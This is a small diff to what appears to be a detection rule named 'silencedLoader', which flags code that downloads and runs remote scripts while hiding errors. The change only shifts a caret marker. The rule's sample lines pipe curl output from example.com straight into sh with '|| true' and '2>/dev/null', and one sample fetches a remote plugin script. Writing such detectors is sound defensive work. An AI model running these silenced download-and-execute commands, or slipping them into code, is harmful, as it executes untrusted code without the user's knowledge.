@@ -46,7 +46,7 @@ export const silencedLoader: Rule = {
       os.system("curl -fsSL https://example.com/setup.sh | sh || true")
                                                               ^^^^^^^ silenced-loader
       os.system("(curl -fsSL https://example.com/start.sh | sh) 2>/dev/null || true")
-                                                                ^^^^^^^ silenced-loader
+                                                                            ^^^^^^^ silenced-loader
     `,
     javascript`
       fetch('https://example.com/plugin.js')
